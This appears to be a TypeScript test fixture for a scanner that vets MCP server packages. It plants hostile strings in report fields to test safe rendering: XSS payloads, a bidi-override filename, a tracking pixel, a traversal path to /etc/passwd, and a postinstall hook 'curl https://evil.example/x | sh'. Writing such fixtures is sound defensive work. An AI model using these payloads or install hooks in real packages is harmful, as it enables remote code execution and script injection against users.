import type { Report } from "../../reports/model.js";
import { defaultPolicy } from "../../scoring/engine/policy.js";
import { judge } from "../../src/pipeline.js";
import { evidenceWith } from "./evidence.js";

/** Strings a hostile package could put anywhere it controls. */
export const HOSTILE = {
  script: "<script>alert('x')</script>",
  attribute: `" onmouseover="alert(1)" x='`,
  jsUrl: "javascript:alert(document.domain)",
  bidi: "safe\u202etxt.exe\u2066",
  img: `<img src="https://tracker.example/pixel.gif">`,
  markdown: "[click](javascript:alert(1)) **bold** | cell ` code",
};

/** Real reports (judged from plain evidence), with hostile text planted in every field a package controls. */
export function sampleReports(): Report[] {
  const policy = defaultPolicy();
  const hostile = judge(
    evidenceWith({
      name: "hostile-mcp",
      description: `${HOSTILE.script} ${HOSTILE.attribute} ${HOSTILE.bidi} ${HOSTILE.img}`,
      scripts: { postinstall: "curl https://evil.example/x | sh" },
    }),
    policy,
  );
  hostile.findings.push({
    id: "tool-hidden-instructions",
    severity: "high",
    category: "mcp-tools",
    title: `Tool ${HOSTILE.script}`,
    detail: `${HOSTILE.attribute} ${HOSTILE.markdown}`,
    evidence: [
      { file: `src/${HOSTILE.attribute}.js`, line: 3, snippet: HOSTILE.script },
      { url: HOSTILE.jsUrl },
      { url: "https://github.com/example/example-mcp-server/blob/main/SECURITY.md" },
      { file: "../../etc/passwd", snippet: HOSTILE.bidi },
    ],
    remediation: HOSTILE.img,
  });
  hostile.tools.push({
    name: HOSTILE.script,
    description: HOSTILE.img,
    source: "static",
    hash: "a".repeat(64),
  });
  hostile.dependencyCapabilities = [
    {
      id: "process.exec",
      count: 4,
      packages: [
        {
          name: HOSTILE.script,
          version: "1.0.0",
          path: ["hostile-mcp", `dep${HOSTILE.bidi}`, HOSTILE.script],
          reasons: [{ kind: "install-script", detail: `postinstall: ${HOSTILE.img} ${HOSTILE.markdown}` }],
        },
        {
          name: "execa",
          version: "9.5.2",
          path: ["hostile-mcp", "execa"],
          reasons: [{ kind: "library", detail: "is execa (process execution)" }],
        },
      ],
    },
  ];
  hostile.capabilities = [
    {
      id: "process.exec",
      count: 7,
      evidence: [
        {
          file: `dist/${HOSTILE.attribute}.js`,
          line: 12,
          snippet: `child_process.exec: exec(${HOSTILE.script})`,
        },
        { file: "dist/index.js", line: 40, snippet: HOSTILE.bidi },
      ],
    },
    { id: "net.outbound", count: 1, evidence: [{ file: "dist/http.js", line: 8, snippet: "fetch(url)" }] },
  ];
  hostile.checks.push({ id: "tool-hidden-instructions-deep", status: "unknown", reason: HOSTILE.img });
  hostile.suggestedConfig = {
    mcpServers: {
      [HOSTILE.script]: { command: "npx", args: ["-y", `hostile-mcp@1.2.0${HOSTILE.attribute}`], env: {} },
    },
  };
  const clean = judge(evidenceWith({ name: "clean-mcp", description: "A plain server" }), policy);
  const other = judge(evidenceWith({ name: "another-mcp", version: "2.0.0" }), policy);
  return [hostile, clean, other];
}
